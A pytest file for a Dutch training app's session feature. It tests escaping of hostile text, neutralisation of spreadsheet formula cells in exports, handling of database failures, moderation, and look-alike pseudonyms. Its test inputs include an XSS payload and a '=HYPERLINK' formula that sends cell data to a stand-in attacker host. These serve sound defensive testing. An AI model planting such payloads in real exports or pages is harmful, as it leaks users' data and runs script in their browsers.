"""Issue 10 without a browser: hostile text, formula cells, pseudonyms, database failures, exports.

Everything runs against a real SQLite database file (WAL); failures are real: a deleted file, a lock held
by another connection, a file-size limit (RLIMIT_FSIZE) in a child process.
"""

from __future__ import annotations

import io
import json
import os
import re
import sqlite3
import subprocess
import sys
import textwrap
import threading
import time
from datetime import datetime
from pathlib import Path

import openpyxl
import pandas as pd
import panel as pn
import pytest

from zorglab.domain.catalogue import price_list, products
from zorglab.services.intervision import export, render, security
from zorglab.services.intervision.errors import (
    DuplicatePseudonymError,
    InvalidInputError,
    LookAlikePseudonymError,
    StorageBusyError,
)
from zorglab.services.intervision.live import ParticipantState, TrainerState
from zorglab.services.intervision.service import IntervisionService
from zorglab.services.intervision.storage import Storage
from zorglab.ui.intervision_page import MessageSlot
from zorglab.ui.intervision_views import ParticipantView, TrainerView

CASES = ["RIV-01", "RIV-02"]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+31 6 123", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.fixture
def db(tmp_path):
    return tmp_path / "iv.sqlite"


@pytest.fixture
def svc(db):
    store = Storage(f"sqlite:///{db}", busy_timeout_ms=150, write_retries=2)
    yield IntervisionService(store)
    store.dispose()


def _open_round(svc, rounds=("indicatie:old",), title="T", **kw):
    created = svc.create_session(title, CASES, list(rounds), **kw)
    info = svc.session(created.session_id)
    for r in info.rounds[:1]:
        svc.set_round(created.trainer_secret, created.session_id, r.round_id, "open")
    return created, svc.session(created.session_id)


def indicatie(product="WMO_BEG_IND", upw=2.0, rationale=""):
    return {"lines": [{"product": product, "units_per_week": upw, "weeks": 52}], "rationale": rationale}


# ---------------------------------------------------------------- 1: escaping
@pytest.mark.parametrize("payload", ["<img src=x onerror=alert(1)>", "[klik](javascript:alert(1))", "**vet** _x_ # kop"])
def test_markdown_shows_outside_text_literally(payload):
    out = render.md_esc(payload)
    assert "<" not in out and "](" not in out and "**" not in out.replace("\\*", "")
    # a CommonMark renderer (the one Panel's Markdown pane uses) gives back exactly the text, no element, no link
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").render(out)
    assert "<img" not in rendered and "<a " not in rendered and "<strong>" not in rendered
    assert payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") in rendered.replace("&quot;", '"')


def test_participant_name_and_error_messages_are_escaped_in_the_views(svc):
    created, info = _open_round(svc)
    part = ParticipantState(service=svc)
    name = "[x](http://evil.example)"
    assert part.join(created.code, name, None, None)
    pv = ParticipantView(state=part)
    welcome = [m.object for m in pv.__panel__().select(pn.pane.Markdown) if "Welkom" in str(m.object)][0]
    assert "](" not in welcome and "\\[x\\]" in welcome
    bad = ParticipantState(service=svc)
    bad.join(created.code, name, None, None)  # duplicate: the message repeats the name
    shown = MessageSlot(state=bad).alert.object
    assert bad.message_kind == "danger" and "](" not in shown


# ---------------------------------------------------------------- 2: formula cells in exports
def test_intervision_exports_neutralise_formulas_and_keep_numbers(svc):
    created, info = _open_round(svc, title='=HYPERLINK("http://evil.example","x")')
    rid = info.rounds[0].round_id
    for i, text in enumerate(FORMULAS):
        svc.submit(svc.join(created.code, f"p{i}").token, rid, "RIV-01", indicatie(upw=1.5 + i, rationale=text))
    csv = pd.read_csv(io.BytesIO(export.answers_csv(svc, created.session_id)), keep_default_na=False,
                      **export.CSV_OPTIONS)
    cleaned = [security.clean_text(t) for t in FORMULAS]  # tab/CR inside one-line text become spaces first
    assert list(csv["rationale"]) == ["'" + t if t[:1] in "=+-@\t\r" else t for t in cleaned]
    assert csv["units_per_week_1"].tolist() == [1.5 + i for i in range(len(FORMULAS))]  # numbers stay numbers
    wb = openpyxl.load_workbook(io.BytesIO(export.excel_bytes(svc, created.session_id)))
    cells = [c.value for row in wb["answers"].iter_rows() for c in row] + \
            [c.value for row in wb["info"].iter_rows() for c in row]
    assert not [v for v in cells if isinstance(v, str) and v.startswith(("=", "+", "-", "@"))]
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK") for v in cells)  # title and rationale shown
    assert all(c.data_type != "f" for row in wb["answers"].iter_rows() for c in row)  # no live formula anywhere


def test_scenario_comparison_exports_neutralise_a_formula_name():
    from zorglab.core.spreadsheet import formula_safe
    from zorglab.domain.scenario import Scenario
    from zorglab.services.scenario_tables import to_csv
    from zorglab.ui.scenario_explorer import ScenarioExplorer
    from zorglab.ui.scenario_state import ExplorerState

    st = ExplorerState(scenario=Scenario(n_clients=2000))
    st.save('=HYPERLINK("http://evil.example/?"&A1,"klik")')
    st.save("-1+1")
    view = ScenarioExplorer(state=st)
    table = pd.read_csv(io.StringIO(view.compare.csv().getvalue()))
    assert [c for c in table.columns if c.startswith(("=", "-", "+", "@"))] == []
    assert any(c.startswith("'=HYPERLINK(") for c in table.columns) and "'-1+1" in table.columns
    wb = openpyxl.load_workbook(view.compare.excel())
    assert all(c.data_type != "f" for row in wb.active.iter_rows() for c in row)
    frame = pd.DataFrame({"name": ["=1+1", "ok", "-x"], "value": [-5.5, 2.0, -1.0]})
    safe = formula_safe(frame)
    assert safe["name"].tolist() == ["'=1+1", "ok", "'-x"] and safe["value"].tolist() == [-5.5, 2.0, -1.0]
    text = to_csv(Scenario(n_clients=2000, tariff_factor=0.8))  # spend falls: negative differences
    assert re.search(r",-\d+\.\d+,", text)  # genuine negative numbers stay numbers ...
    assert not re.search(r",'-[\d.]+(,|\n)", text)  # ... none is quoted as text
    assert "\"'-0,30 – 0,50\"" in text  # while a text cell starting with '-' (a range) is neutralised


# ---------------------------------------------------------------- 3: database failures
def test_deleted_database_is_reported_not_recreated_and_the_form_keeps_the_input(svc, db):
    created, info = _open_round(svc)
    part = ParticipantState(service=svc)
    assert part.join(created.code, "Anna", None, None)
    pv = ParticipantView(state=part)
    trainer = TrainerState(service=svc, secret=created.trainer_secret, session_id=created.session_id)
    tv = TrainerView(state=trainer)
    why = [w for w in pv.__panel__().select(pn.widgets.TextInput) if w.label.startswith("Toelichting")][0]
    why.value = "mijn toelichting"
    for suffix in ("", "-wal", "-shm"):
        Path(f"{db}{suffix}").unlink(missing_ok=True)
    [b for b in pv.__panel__().select(pn.widgets.Button) if b.label == "Verstuur antwoord"][0].clicks += 1
    assert part.message_kind == "danger" and "verdwenen" in part.message and "niets opgeslagen" in part.message
    assert not db.exists()  # never silently recreated empty
    assert why.value == "mijn toelichting"  # the participant's input is still there
    [b for b in tv.__panel__().select(pn.widgets.Button) if b.label == "Sluit ronde 1"][0].clicks += 1
    assert trainer.message_kind == "danger" and "verdwenen" in trainer.message  # the console says so too
    trainer.clear_message()
    assert trainer.poll() is False and trainer.message_kind == "danger"  # the live poll: a message, no exception
    assert tv.download(export.answers_csv).getvalue() == b"" and "verdwenen" in trainer.message


def test_a_lock_held_briefly_is_retried_and_one_held_too_long_is_reported(svc, db):
    created, info = _open_round(svc)
    rid = info.rounds[0].round_id
    token = svc.join(created.code, "Anna").token
    blocker = sqlite3.connect(db, timeout=5, isolation_level=None, check_same_thread=False)

    def hold(seconds):
        blocker.execute("BEGIN EXCLUSIVE")
        time.sleep(seconds)
        blocker.execute("COMMIT")

    t = threading.Thread(target=hold, args=(0.35,))  # longer than the 150 ms busy timeout, shorter than the retries
    t.start()
    time.sleep(0.05)
    assert svc.submit(token, rid, "RIV-01", indicatie()).revision == 1
    t.join()
    blocker.execute("BEGIN EXCLUSIVE")  # now held until we say so
    part = ParticipantState(service=svc, token=token)
    with pytest.raises(StorageBusyError):
        svc.submit(token, rid, "RIV-02", indicatie())
    assert not part.submit(rid, "RIV-02", indicatie()) and "druk" in part.message
    blocker.execute("COMMIT")
    assert len(svc.answers_frame(created.session_id)) == 1  # nothing half-written
    assert part.submit(rid, "RIV-02", indicatie()) and part.message_kind == "success"
    blocker.close()


FULL_SCRIPT = """
import json, resource, sys
from zorglab.services.intervision.live import ParticipantState
from zorglab.services.intervision.service import IntervisionService
from zorglab.services.intervision.storage import Storage
svc = IntervisionService(Storage(sys.argv[1]))
code, rid = sys.argv[2], int(sys.argv[3])
joined = []
for i in range(3):
    joined.append(svc.join(code, f"vooraf{i}").token)
resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[4]), resource.RLIM_INFINITY))
out = []
for i in range(60):
    p = ParticipantState(service=svc)
    ok = p.join(code, f"deelnemer{i}", None, None)
    out.append([ok, p.message_kind, p.message])
    if not ok:
        break
print(json.dumps(out))
"""


def test_a_full_disk_is_reported_and_leaves_nothing_half_written(svc, db, tmp_path):
    created, info = _open_round(svc)
    svc.storage.dispose()
    with sqlite3.connect(db) as c:  # fold the WAL into the main file so the limit hits the WAL growth
        c.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    limit = db.stat().st_size + 20_000
    script = tmp_path / "full.py"
    script.write_text(textwrap.dedent(FULL_SCRIPT))
    out = subprocess.run([sys.executable, str(script), f"sqlite:///{db}", created.code,
                          str(info.rounds[0].round_id), str(limit)], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    results = json.loads(out.stdout)
    assert results[-1][0] is False, "the file-size limit was never reached"
    assert results[-1][1] == "danger" and "schijf vol of schrijffout" in results[-1][2]
    ok = sum(1 for r in results if r[0])
    ov = IntervisionService(Storage(f"sqlite:///{db}")).overview(created.session_id)
    assert len(ov.participants) == 3 + ok  # every acknowledged join is there, the failed one is not
    assert ov.version == 1 + 3 + ok  # the version bump belongs to the same transaction: no half write


# ---------------------------------------------------------------- 4: throttling, cap, moderation
def test_participant_cap_removal_and_hidden_rationale(svc):
    created, info = _open_round(svc, max_participants=3)
    rid = info.rounds[0].round_id
    tokens = [svc.join(created.code, n).token for n in ("a", "b", "c")]
    with pytest.raises(Exception, match="vol \\(3 deelnemers\\)"):
        svc.join(created.code, "d")
    for t, why in zip(tokens, ("goed", "grap", "prima"), strict=True):
        svc.submit(t, rid, "RIV-01", indicatie(rationale=why))
    trainer = TrainerState(service=svc, secret=created.trainer_secret, session_id=created.session_id)
    assert trainer.remove(2) and trainer.message_kind == "success"
    assert svc.join(created.code, "d").number == 4  # room again
    assert not ParticipantState(service=svc, token=tokens[1]).joined  # the removed participant's link is dead
    df = svc.answers_frame(created.session_id)
    assert sorted(df["participant"]) == [1, 3]  # their answer is gone too
    aid = int(df.loc[df["rationale"] == "prima", "answer_id"].iloc[0])
    assert trainer.hide(aid)
    from zorglab.services.intervision.stats import anonymous_rationales

    assert [t for _, t in anonymous_rationales(svc.answers_frame(created.session_id))] == ["goed"]
    other = svc.create_session("Ander", CASES, ["mdo"])
    assert not TrainerState(service=svc, secret=other.trainer_secret, session_id=created.session_id).remove(1)


def test_trainer_console_lists_who_is_missing_and_can_moderate(svc):
    created, info = _open_round(svc)
    rid = info.rounds[0].round_id
    toks = {n: svc.join(created.code, n).token for n in ("Anna", "Bram", "Chris")}
    svc.submit(toks["Bram"], rid, "RIV-01", indicatie(rationale="ok"))
    svc.submit(toks["Bram"], rid, "RIV-02", indicatie())
    trainer = TrainerState(service=svc, secret=created.trainer_secret, session_id=created.session_id)
    tv = TrainerView(state=trainer)
    text = " ".join(str(p.object) for p in tv.__panel__().select(pn.pane.Markdown) if p.object)
    html = " ".join(str(p.object) for p in tv.__panel__().select(pn.pane.HTML) if p.object)
    assert "1 van 3 deelnemers hebben geantwoord (2 antwoorden)" in text
    assert "Nog niet geantwoord: Anna, Chris" in html
    selects = {s.label: s for s in tv.__panel__().select(pn.widgets.Select)}
    assert set(selects["Deelnemer"].options) == {"1 · Anna", "2 · Bram", "3 · Chris"}
    assert list(selects["Toelichting"].options) == ["Ronde 1 · RIV-01 · ok"]


# ---------------------------------------------------------------- 5: pseudonyms
@pytest.mark.parametrize(("first", "second", "error"), [
    ("p1", "р1", LookAlikePseudonymError),  # Cyrillic er + digit one
    ("Anna", "Ann\u200ba", DuplicatePseudonymError),  # zero-width space
    ("Anna", "ＡＮＮＡ", DuplicatePseudonymError),  # fullwidth
    ("Bob", "Воb", LookAlikePseudonymError),  # Cyrillic Ve and o
    ("Ole", "0le", LookAlikePseudonymError),
    ("Mila", "rnila", LookAlikePseudonymError),
])
def test_look_alike_pseudonyms_are_refused(svc, first, second, error):
    created, _ = _open_round(svc)
    svc.join(created.code, first)
    with pytest.raises(error, match="schuilnaam"):
        svc.join(created.code, second)


def test_format_and_control_characters_are_removed_from_names_and_text(svc):
    created, info = _open_round(svc)
    name = "\u202eAnna\u200b\u200d\u2066 de\u0007 Vries"
    p = svc.join(created.code, name)
    assert svc.participant(p.token).pseudonym == "Anna de Vries"
    with pytest.raises(InvalidInputError, match="schuilnaam"):
        svc.join(created.code, "\u200b\u202e\u2060")  # nothing visible left
    res = svc.submit(p.token, info.rounds[0].round_id, "RIV-01", indicatie(rationale="abc\u202edef\u200bghi"))
    assert res.revision == 1
    assert svc.answers_frame(created.session_id)["rationale"].iloc[0] == "abcdefghi"
    assert security.clean_name("e\u0301\u0301\u0301\u0301x") == "é\u0301x"  # at most two marks on a letter


# ---------------------------------------------------------------- 8: exports a researcher can read
def test_exports_strict_json_dutch_csv_and_readable_participants(svc):
    created, info = _open_round(svc, rounds=("indicatie:old", "mdo", "arena"))
    r_ind, r_mdo, r_arena = (r.round_id for r in info.rounds)
    a = svc.join(created.code, "Anna")  # no role, no municipality
    b = svc.join(created.code, "Bram", "Contractmanager", "Tiel")
    before = time.time()
    svc.submit(a.token, r_ind, "RIV-01", indicatie("WMO_HH1", upw=2.5, rationale="schoon huis"))
    svc.set_round(created.trainer_secret, created.session_id, r_mdo, "open")
    act = price_list().iloc[0]
    svc.submit(b.token, r_mdo, "RIV-01", {"supports": [{"activity": act["activity"], "quantity": 12}],
                                          "wellbeing_after": 7})
    svc.set_round(created.trainer_secret, created.session_id, r_arena, "open")
    from zorglab.domain.cases import STAKEHOLDERS

    svc.submit(b.token, r_arena, "RIV-02", {"roles": dict.fromkeys(STAKEHOLDERS, "neutral") | {"gemeente": "investor"}})

    doc_bytes = export.session_json(svc, created.session_id)

    def no_constants(name):
        raise ValueError(f"non-standard JSON constant {name}")

    doc = json.loads(doc_bytes, parse_constant=no_constants)  # what JavaScript's JSON.parse accepts
    assert doc["participants"][0] == {"number": 1, "role": None, "municipality": None}
    first = doc["answers"][0]
    assert first["catalogue"] == "old" and doc["answers"][1]["catalogue"] is None
    assert datetime.fromisoformat(first["submitted_at"]).timestamp() == pytest.approx(before, abs=5)
    assert export.read_session_json(doc_bytes)["payload"].iloc[0]["lines"][0]["product"] == "WMO_HH1"

    trainer = TrainerState(service=svc, secret=created.trainer_secret, session_id=created.session_id)
    people = " ".join(str(p.object) for p in TrainerView(state=trainer).__panel__().select(pn.pane.HTML))
    assert "nan" not in people and "<b>Anna</b> <span" in people

    raw = export.answers_csv(svc, created.session_id)
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    header = raw[3:].split(b"\r\n", 1)[0].decode()
    assert header.count(";") > 10 and "," not in header
    csv = pd.read_csv(io.BytesIO(raw), **export.CSV_OPTIONS).set_index("kind")
    hh1 = products().set_index("code").loc["WMO_HH1"]
    assert csv.loc["indicatie", "product_1"] == "WMO_HH1" and csv.loc["indicatie", "product_1_name"] == hh1["name_nl"]
    assert csv.loc["indicatie", "units_per_week_1"] == 2.5 and csv.loc["indicatie", "weeks_1"] == 52
    assert csv.loc["mdo", "activity_1_name"] == act["name_nl"] and csv.loc["mdo", "quantity_1"] == 12
    assert csv.loc["mdo", "quantity_1_unit"] == act["unit"] and csv.loc["mdo", "wellbeing_after"] == 7
    assert csv.loc["arena", "role_gemeente"] == "investor" and csv.loc["arena", "role_buurt"] == "neutral"
    stamp = csv.loc["indicatie", "submitted_at"]
    assert datetime.fromisoformat(stamp).tzinfo is not None and stamp[:4] == str(datetime.now().year)
    assert ";2,5;" in raw.decode("utf-8-sig")  # decimal comma


def test_storage_adds_new_columns_to_an_older_database(tmp_path):
    path = tmp_path / "old.sqlite"
    with sqlite3.connect(path) as c:  # the schema of the previous release, with a session in it
        c.executescript("""
            CREATE TABLE iv_sessions (id INTEGER PRIMARY KEY, code VARCHAR(12) NOT NULL UNIQUE,
              trainer_hash VARCHAR(64) NOT NULL UNIQUE, title VARCHAR(80) NOT NULL, language VARCHAR(2) NOT NULL,
              cases_json TEXT NOT NULL, version INTEGER NOT NULL, created_at FLOAT NOT NULL);
            CREATE TABLE iv_rounds (id INTEGER PRIMARY KEY, session_id INTEGER NOT NULL, position INTEGER NOT NULL,
              kind VARCHAR(16) NOT NULL, catalogue VARCHAR(12), status VARCHAR(10) NOT NULL, opened_at FLOAT,
              closed_at FLOAT);
            INSERT INTO iv_sessions VALUES (1, 'ABCDEF', 'h', 'Oud', 'nl', '[]', 3, 0);
            INSERT INTO iv_rounds VALUES (1, 1, 1, 'mdo', NULL, 'open', 0, NULL);
        """)
    svc = IntervisionService(Storage(f"sqlite:///{path}"))
    info = svc.session(1)
    assert info.title == "Oud" and info.rounds[0].deadline_at is None and info.max_participants == 400
    assert os.path.getsize(path) > 0
